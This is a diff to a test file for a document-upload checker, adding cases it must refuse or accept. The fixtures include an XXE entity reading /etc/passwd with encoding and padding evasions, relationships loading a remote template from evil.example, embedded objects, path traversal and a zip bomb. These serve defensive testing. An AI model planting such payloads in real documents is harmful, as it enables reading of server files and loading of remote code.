@@ -34,8 +34,8 @@ def picture(kind="JPEG", size=(64, 48), **options):
 def pdf(**options):
     writer = PdfWriter()
     writer.add_blank_page(200, 200)
-    if options.get("password"):
-        writer.encrypt(options["password"])
+    if "password" in options:
+        writer.encrypt(options["password"], options.get("owner"), algorithm="AES-256")
     written = io.BytesIO()
     writer.write(written)
     return written.getvalue()
@@ -48,8 +48,21 @@ def docx(**entries):
     with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as package:
         for name, content in files.items():
             if content is not None:
-                package.writestr(name, content)
+                # Without the time of day, which would be another in each process of the tests.
+                package.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
     return written.getvalue()
+
+
+DOCTYPE = b'<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d SYSTEM "file:///etc/passwd">]>'
+
+
+def relationship(kind, mode="External"):
+    namespace = "http://schemas.openxmlformats.org"
+    return (
+        f'<Relationships xmlns="{namespace}/package/2006/relationships"><Relationship Id="r1" '
+        f'Type="{namespace}/officeDocument/2006/relationships/{kind}" TargetMode="{mode}" '
+        'Target="https://evil.example/t.dotm"/></Relationships>'
+    ).encode()
 
 
 def png_bomb(side=60_000):
@@ -126,6 +139,19 @@ def test_document_is_told_by_its_content_and_named_for_it(name, content, kind, k
         (docx(**{"word__vbaProject.bin": b"macro"}), "macros"),
         (docx(**{"[Content_Types].xml": b"<x t='vnd.ms-word.document.macroEnabled.main+xml'/>"}),
          "macros"),
+        (docx(**{"word__activeX__activeX1.xml": b"<x/>"}), "macros"),
+        (docx(**{"word__embeddings__oleObject1.bin": b"object"}), "objects"),
+        (docx(**{"word__embeddings__Microsoft_Excel.xlsx": b"object"}), "objects"),
+        (docx(**{"word___rels__settings.xml.rels": relationship("attachedTemplate")}), "external"),
+        (docx(**{"word___rels__document.xml.rels": relationship("oleObject")}), "external"),
+        (docx(**{"word___rels__document.xml.rels": relationship("image")}), "external"),
+        (docx(**{"word__document.xml": DOCTYPE + BODY}), "doctype"),
+        (docx(**{"word__styles.xml": DOCTYPE + b"<a/>"}), "doctype"),
+        (docx(**{"word__media__image1.svg": DOCTYPE + b"<svg/>"}), "doctype"),
+        (docx(**{"word__any.bin": DOCTYPE + b"<a/>"}), "doctype"),
+        (docx(**{"word__notes.xml": (b"<!-- " + b"x" * 9000 + b" -->") + DOCTYPE}), "doctype"),
+        (docx(**{"word__notes.xml": DOCTYPE.decode().encode("utf-16")}), "doctype"),
+        (docx(**{"word__notes.xml": DOCTYPE.decode().encode("utf-16-be")}), "doctype"),
         (docx(**{"..__..__evil.txt": b"x"}), "broken"),
         (docx(**{"word__big.bin": b"\0" * 101 * 1024 * 1024}), "bomb"),
     ],
@@ -136,6 +162,20 @@ def test_what_is_none_of_these_is_refused_in_a_sentence(content, code):
 
     assert refusal.value.code == code
     assert refusal.value.messages[0].endswith(".")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pdf(password="", owner="only the owner prints"),
+        docx(**{"word___rels__document.xml.rels": relationship("hyperlink")}),
+        docx(**{"word___rels__document.xml.rels": relationship("image", "Internal")}),
+        docx(**{"word__notes.xml": b"<a>&lt;!DOCTYPE typed by a person&gt;</a>"}),
+    ],
+    ids=["owner only", "link", "picture", "words"],
+)
+def test_what_everybody_may_open_is_taken(content):
+    assert uploads.check("plan", content).content == content
 
 
 def test_image_is_written_anew_without_what_is_not_seen():
